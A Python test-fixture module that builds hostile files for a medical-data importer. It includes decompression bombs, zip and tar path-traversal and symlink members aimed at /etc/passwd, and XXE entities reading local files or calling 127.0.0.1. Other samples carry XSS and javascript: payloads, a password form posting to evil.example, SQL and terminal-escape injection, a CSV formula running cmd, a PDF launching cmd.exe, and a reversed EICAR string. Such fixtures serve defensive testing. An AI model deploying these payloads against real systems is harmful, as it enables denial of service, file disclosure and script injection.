"""Hostile files, made here: what a patient CD, a sender or an attacker may hand us. Small, inert outside a parser.

`write_all(folder)` writes each as a file; the tests say what must become of it.
"""

import gzip
import io
import json
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from PIL import Image

MIB = 1024**2


def zip_of(*members: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def zip_bomb(mebibytes: int = 300) -> bytes:
    """Zeros, a thousand times larger than the file."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("scan.dcm", "w") as file,
    ):
        for _ in range(mebibytes):
            file.write(bytes(MIB))
    return out.getvalue()


def zip_nested(levels: int = 3, each: int = 5) -> bytes:
    inner = zip_of(("a.dcm", bytes(MIB)))
    for _ in range(levels):
        inner = zip_of(*((f"{number}.zip", inner) for number in range(each)))
    return inner


def zip_overlap(entries: int = 300) -> bytes:
    """Many directory entries that share one stream (APPNOTE.TXT 4.3.7 and 4.3.12 written by hand)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    plain = bytes(64 * 1024)
    packed = packer.compress(plain) + packer.flush()
    crc = zlib.crc32(plain)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), len(plain), 5, 0) + b"a.dcm" + packed
    directory = b""
    for number in range(entries):
        name = b"f%04d" % number
        fixed = struct.pack(
            "<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), len(plain), len(name), 0, 0, 0, 0, 0, 0
        )
        directory += fixed + name
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(directory), len(local), 0)
    return local + directory + end


def zip_count_lies(entries: int = 30_000) -> bytes:
    """The end record says 1 member, the directory has thousands."""
    whole = bytearray(zip_of(*((f"{number:05d}", b"") for number in range(entries)), method=zipfile.ZIP_STORED))
    at = whole.rfind(b"PK\5\6")
    whole[at + 8 : at + 12] = struct.pack("<2H", 1, 1)
    return bytes(whole)


def zip_size_lies() -> bytes:
    """A member that unpacks to more than it declares."""
    whole = bytearray(zip_of(("a.bin", b"x" * 100_000)))
    for signature, offset in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        at = whole.find(signature)
        whole[at + offset : at + offset + 4] = struct.pack("<I", 1000)
    return bytes(whole)


def zip_symlinks() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("link/inside.txt", "kept")
    return out.getvalue()


def zip_encrypted() -> bytes:
    whole = bytearray(zip_of(("secret.txt", b"x" * 50)))
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = whole.find(signature)
        whole[at + offset] |= 1
    return bytes(whole)


def zip_names() -> bytes:
    return zip_of(
        ("../../../../outside", b"1"),
        ("/absolute", b"2"),
        ("..\\..\\windows", b"3"),
        ("C:\\drive", b"4"),
        ("ok/A.dcm", b"5"),
        ("ok/a.dcm", b"6"),
        ("photo\u202egpj.exe", b"7"),
        ("new\nline<script>alert(1)</script>.dcm", b"8"),
        ("CON", b"9"),
        ("x" * 4000 + ".dcm", b"10"),
        ("-rf", b"11"),
        (".htaccess", b"12"),
    )


def dicom(*elements: bytes, syntax: bytes = b"1.2.840.10008.1.2.1", preamble: bytes = b"") -> bytes:
    """A DICOM file around explicit VR little endian elements."""
    syntax += b"\0" * (len(syntax) % 2)
    meta = b"\x02\x00\x10\x00UI" + struct.pack("<H", len(syntax)) + syntax
    group = b"\x02\x00\x00\x00UL\x04\x00" + struct.pack("<I", len(meta))
    return (preamble + bytes(128))[:128] + b"DICM" + group + meta + b"".join(elements)


def element(tag: int, vr: bytes, value: bytes) -> bytes:
    value += b" " * (len(value) % 2)
    return struct.pack("<HH", tag >> 16, tag & 0xFFFF) + vr + struct.pack("<H", len(value)) + value


_STUDY = (
    element(0x00080060, b"CS", b"CT"),
    element(0x00100010, b"PN", b"Doe^Jane"),
    element(0x0020000D, b"UI", b"1.2.3.4"),
    element(0x0020000E, b"UI", b"1.2.3.5"),
)


def dicom_deep_sequences(depth: int = 3000) -> bytes:
    opening = b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff"
    closing = b"\xfe\xff\x0d\xe0\0\0\0\0\xfe\xff\xdd\xe0\0\0\0\0"
    return dicom(_STUDY[0], opening * depth + closing * depth, *_STUDY[1:])


def dicom_deflate_bomb(mebibytes: int = 200) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    pixels = b"\xe0\x7f\x10\x00OB\0\0" + struct.pack("<I", mebibytes * MIB)
    whole = image(follows=pixels)
    body = packer.compress(whole[whole.index(b"\x08\x00\x16\x00") :])
    for _ in range(mebibytes):
        body += packer.compress(bytes(MIB))
    return dicom(body + packer.flush(), syntax=b"1.2.840.10008.1.2.1.99")


def image(
    *, rows: int = 64, columns: int = 64, frames: int = 1, frame: bytes = b"", syntax: bytes = b"1.2.840.10008.1.2.1",
    preamble: bytes = b"", name: bytes = b"Doe^Jane", follows: bytes = b"",
) -> bytes:  # fmt: skip
    """A whole small image. With `frame` its pixels are encapsulated, and this is the only one; `follows` instead of
    them, if it is given."""
    pixels = b"\xe0\x7f\x10\x00OB\0\0" + struct.pack("<I", 64 * 64) + bytes(range(256)) * 16
    if frame:
        items = b"".join(b"\xfe\xff\x00\xe0" + struct.pack("<I", len(item)) + item for item in (b"", frame))
        pixels = b"\xe0\x7f\x10\x00OB\0\0\xff\xff\xff\xff" + items + b"\xfe\xff\xdd\xe0\0\0\0\0"
    numbers = {0x00280010: rows, 0x00280011: columns, 0x00280100: 8, 0x00280101: 8, 0x00280102: 7, 0x00280103: 0}
    return dicom(
        element(0x00080016, b"UI", b"1.2.840.10008.5.1.4.1.1.7"), element(0x00080018, b"UI", b"1.2.3.6"), _STUDY[0],
        element(0x00100010, b"PN", name), *_STUDY[2:], element(0x00280002, b"US", b"\1\0"),
        element(0x00280004, b"CS", b"MONOCHROME2"), element(0x00280008, b"IS", b"%d" % frames),
        *(element(tag, b"US", struct.pack("<H", value)) for tag, value in numbers.items()), follows or pixels,
        syntax=syntax, preamble=preamble,
    )  # fmt: skip


def dicom_script() -> bytes:
    whole = image(name=b"<script>alert(1)</script>", preamble=b"<html><script>alert(0)</script>")
    study = element(0x00081030, b"LO", b"';DROP TABLE study;--{{7*7}}\x1b]0;owned\x07")
    at = whole.index(_STUDY[0]) + len(_STUDY[0])
    return whole[:at] + study + whole[at:]


def jpeg2000_bomb(side: int = 60_000) -> bytes:
    """The header of a picture of 3.6 gigapixels in one tile, and no data (ISO/IEC 15444-1, A.5 and A.6)."""
    size = struct.pack(">HHH8IHBBB", 0xFF51, 41, 0, side, side, 0, 0, side, side, 0, 0, 1, 7, 1, 1)
    coding = bytes.fromhex("ff52000c00000001000004040001") + bytes.fromhex("ff5c00044040")
    return b"\xff\x4f" + size + coding + bytes.fromhex("ff90000a0000000000000001ff93ffd9")


def gzip_of(head: bytes, repeated: bytes, times: int) -> bytes:
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9, mtime=0) as packed:
        packed.write(head)
        for _ in range(times):
            packed.write(repeated)
    return out.getvalue()


def tar_traversal() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for name, kind, target in (
            ("../../outside", tarfile.REGTYPE, ""), ("device", tarfile.CHRTYPE, ""), ("link", tarfile.SYMTYPE, "/etc"),
            ("link/through", tarfile.REGTYPE, ""), ("hard", tarfile.LNKTYPE, "/etc/passwd"),
        ):  # fmt: skip
            member = tarfile.TarInfo(name)
            member.type, member.linkname, member.mode = kind, target, 0o4755
            archive.addfile(member)
    return out.getvalue()


def disc_table() -> bytes:
    """A DICOMDIR whose files lie outside of the disc."""
    from tests import discs  # it imports us

    with warnings.catch_warnings(action="ignore"):  # pydicom's, that no disc has such names
        return discs.dicomdir({"../../../etc/passwd": "1.2.3.7", "/etc/shadow": "1.2.3.8", "..\\..\\x": "1.2.3.9"})


_VCF = b"##fileformat=VCFv4.2\n"
_COLUMNS = b"#CHROM\tPOS\tID\tREF\tALT\tQUAL\tFILTER\tINFO\n"
_CDA = b'<ClinicalDocument xmlns="urn:hl7-org:v3">%s</ClinicalDocument>'


def laughs() -> bytes:
    """Ten entities, each ten times the one before."""
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<!DOCTYPE a [<!ENTITY e0 "lol">' + entities + b"]>" + _CDA % b"<title>&e9;</title>"


def cda_script() -> bytes:
    text = (
        b'<linkHtml href="javascript:alert(2)">link</linkHtml><content onmouseover="alert(3)">words</content>'
        b'<renderMultiMedia referencedObject="m1"/><table onclick="a()"><tbody><tr>'
        b'<td style="background:url(http://evil.example/p)">cell</td></tr></tbody></table>'
        b'<iframe src="http://evil.example"/><script>alert(5)</script>'
    )
    media = (
        b'<entry><observationMedia ID="m1"><value mediaType="image/gif">'
        b'<reference value="http://evil.example/track.gif"/></value></observationMedia></entry>'
    )
    section = b"<component><section><title>S</title><text>" + text + b"</text>" + media + b"</section></component>"
    return b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>' + _CDA % (
        b"<title>T&lt;script&gt;alert(1)&lt;/script&gt;</title><component><structuredBody>%s</structuredBody>"
        b"</component>" % section
    )


def fhir_script() -> bytes:
    narrative = (
        '<div xmlns="http://www.w3.org/1999/xhtml">said<script>alert(3)</script><a href="javascript:alert(4)" '
        'onclick="x()">a</a><img src="http://evil.example/pix.gif"/><style>body{display:none}</style>'
        '<form action="http://evil.example"><input name="password"/></form></div>'
    )
    patient = {
        "resourceType": "Patient", "id": "../../x", "name": [{"family": "<img src=x onerror=alert(2)>"}],
        "photo": [{"contentType": "image/svg+xml", "url": "http://evil.example/t.svg"}],
        "text": {"status": "generated", "div": narrative},
    }  # fmt: skip
    page = {"resourceType": "Binary", "contentType": "text/html", "data": "PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg=="}
    entries = [{"fullUrl": "javascript:alert(1)", "resource": patient}, {"resource": page}]
    return json.dumps({"resourceType": "Bundle", "type": "document", "entry": entries}).encode()


def photo_with_place() -> bytes:
    """Exif with a script and where somebody lives; a zip's end behind it."""
    exif = Image.Exif()
    exif[0x010E], exif[0x013B] = "<script>alert(1)</script>", '=HYPERLINK("http://evil.example")'
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 22.0, 30.0), 3: "E", 4: (4.0, 53.0, 0.0)})
    out = io.BytesIO()
    Image.new("RGB", (64, 64), "firebrick").save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue() + b"PK\5\6" + bytes(18)


def edf_that_lies() -> bytes:
    head = b"0".ljust(8) + b"X" * 80 + b"Y" * 80 + b"01.01.2601.01.01" + b"2560000".ljust(8) + b" " * 44
    return head + b"99999999" + b"1".ljust(8) + b"9999" + b" " * 1000


def nifti_that_lies() -> bytes:
    head = bytearray(352)
    struct.pack_into("<i", head, 0, 348)
    struct.pack_into("<8h", head, 40, 7, 32767, 32767, 32767, 32767, 1, 1, 1)
    struct.pack_into("<2h", head, 70, 64, 64)
    struct.pack_into("<f", head, 108, 352.0)
    head[344:348] = b"n+1\0"
    return bytes(head)


def hl7_script() -> bytes:
    lines = (
        b"\x0bMSH|^~\\&|A|<script>alert(1)</script>|B|C|20260101||ORU^R01|1|P|2.5",
        b"PID|1||../../etc^^^X||O'Brien^\"><svg onload=alert(1)>",
        b"OBX|1|ED|PDF^x||^application^pdf^Base64^" + b"A" * 100_000 + b"||||||F", b"OBX|" + b"~" * 50_000, b"\x1c",
    )  # fmt: skip
    return b"\r".join(lines) + b"\r"


def pdf_script() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/AA<</WC<<"
        b"/S/Launch/F(cmd.exe)>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page"
        b"/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


# name -> (how it is made, format it must be told as)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip_bomb.zip": (zip_bomb, "zip"),
    "zip_nested.zip": (zip_nested, "zip"),
    "zip_overlap.zip": (zip_overlap, "zip"),
    "zip_count_lies.zip": (zip_count_lies, "zip"),
    "zip_many.zip": (lambda: zip_of(*((f"{n:05d}", b"x") for n in range(25_000)), method=zipfile.ZIP_STORED), "zip"),
    "zip_size_lies.zip": (zip_size_lies, "zip"),
    "zip_symlinks.zip": (zip_symlinks, "zip"),
    "zip_encrypted.zip": (zip_encrypted, "zip"),
    "zip_names.zip": (zip_names, "zip"),
    "zip_truncated.zip": (lambda: zip_of(("a.txt", b"x" * 10_000), ("b.txt", b"y"))[:-30], "zip"),
    "zip_only_end.zip": (lambda: b"PK\5\6" + bytes(18), "zip"),
    "zip_garbage.zip": (lambda: b"PK\3\4" + b"\xff" * 5000, "zip"),
    "zip_traversal.zip": (
        lambda: zip_of(("../../../../tmp/outside", b"1"), ("/absolute", b"2"), ("..\\..\\windows", b"3"),
                       ("a/../../b", b"4"), ("ok/CT1.dcm", b"5")),
        "zip",
    ),
    "tar_traversal.tar.gz": (tar_traversal, "tar-gz"),
    "gzip_bomb.nii.gz": (lambda: gzip_of(b"", bytes(MIB), 200), "gzip"),
    "dicom_pe_preamble.dcm": (lambda: image(preamble=b"MZ\x90\0"), "dicom"),
    "dicom_elf_preamble.dcm": (lambda: image(preamble=b"\x7fELF\2\1\1"), "dicom"),
    "dicom_huge.dcm": (lambda: image(rows=65535, columns=65535, frames=100_000), "dicom"),
    "dicom_jpeg2000_bomb.dcm": (lambda: image(frame=jpeg2000_bomb(), syntax=b"1.2.840.10008.1.2.4.90"), "dicom"),
    "dicom_empty_frame.dcm": (lambda: image(frame=b"\xff\xd8\xff\xd9", syntax=b"1.2.840.10008.1.2.4.50"), "dicom"),
    "DICOMDIR": (disc_table, "dicomdir"),
    "dicom_tiff_preamble.dcm": (lambda: dicom(*_STUDY, preamble=b"II*\0\x08\0\0\0"), "dicom"),
    "dicom_script.dcm": (dicom_script, "dicom"),
    "dicom_deep_sequences.dcm": (dicom_deep_sequences, "dicom"),
    "dicom_bad_length.dcm": (lambda: dicom(*_STUDY, b"\x21\x00\x10\x10UN\0\0\xf0\xff\xff\xff" + b"A" * 64), "dicom"),
    "dicom_deflate_bomb.dcm": (dicom_deflate_bomb, "dicom"),
    "dicom_only_magic.dcm": (lambda: bytes(128) + b"DICM", "dicom"),
    "report.pdf": (lambda: b"<!doctype html><html><script>alert(1)</script>%PDF-1.4</html>", "html"),
    "deep.json": (lambda: b'{"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "unknown"),
    "big_number.json": (lambda: json.dumps({"x": 1}).encode()[:-2] + b"9" * 100_000 + b"}", "json"),
    "fhir_deep.json": (
        lambda: b'{"resourceType":"Bundle","x":' + b"[" * 100_000 + b"]" * 100_000 + b"}", "unknown"),
    "fhir_big_number.json": (
        lambda: b'{"resourceType":"Observation","valueInteger":' + b"9" * 2_000_000 + b"}", "fhir-json"),
    "fhir_script.json": (fhir_script, "fhir-json"),
    "cda_entities.xml": (
        lambda: b'<!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM '
        b'"http://127.0.0.1:9/x">]>' + _CDA % b"<title>&x;&y;</title>", "cda-xml"),
    "cda_laughs.xml": (laughs, "cda-xml"),
    "cda_deep.xml": (lambda: _CDA % (b"<a>" * 200_000 + b"</a>" * 200_000), "cda-xml"),
    "cda_script.xml": (cda_script, "cda-xml"),
    "entities.xml": (
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "xml",
    ),
    "active.svg": (
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>', "svg"),
    "many_pixels.png": (
        lambda: b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 50_000, 50_000) + bytes(9),
        "png",
    ),
    "loop.tif": (lambda: b"II*\0" + struct.pack("<I", 8) + struct.pack("<HHHIII", 1, 256, 4, 1, 10, 8), "tiff"),
    "jpeg_with_zip_end.jpg": (lambda: b"\xff\xd8\xff\xe0" + bytes(100) + b"PK\5\6" + bytes(18), "jpeg"),
    "photo_with_place.jpg": (photo_with_place, "jpeg"),
    "script.pdf": (pdf_script, "pdf"),
    "one_line.vcf.gz": (lambda: gzip_of(_VCF + _COLUMNS + b"1\t1\t.\tA\tT\t.\t.\tX=", b"A" * MIB, 500), "vcf-gz"),
    "script.vcf": (
        lambda: _VCF + b"##source=<script>alert(1)</script>\n##contig=<ID=../../x>\n" + _COLUMNS
        + b"1\t99999999999999999999\trs1\tA\t<img onerror=x>\t.\t.\t\x1b]0;owned\x07\n", "vcf"),
    "formula.csv": (
        lambda: b"date,steps\n2026-01-01,=cmd|' /C calc'!A0\n2026-01-02,@SUM(1+1)*cmd\n2026-01-03,+1+1\n", "csv"),
    "lies.edf": (edf_that_lies, "edf"),
    "lies.nii": (nifti_that_lies, "nifti"),
    "script.hl7": (hl7_script, "hl7v2"),
    # Turned round here, or scanners would take this file away
    "virus_test.txt": (lambda: b"*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X"[::-1], "text"),
    "empty.dcm": (lambda: b"", "unknown"),
    "noise.bin": (lambda: bytes(range(256)) * 40, "unknown"),
}


def made() -> Iterator[tuple[str, bytes, str]]:
    """(name, content, the format it must be told as)."""
    for name, (make, expected) in FILES.items():
        yield name, make(), expected


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, content, _ in made():
        (folder / name).write_bytes(content)
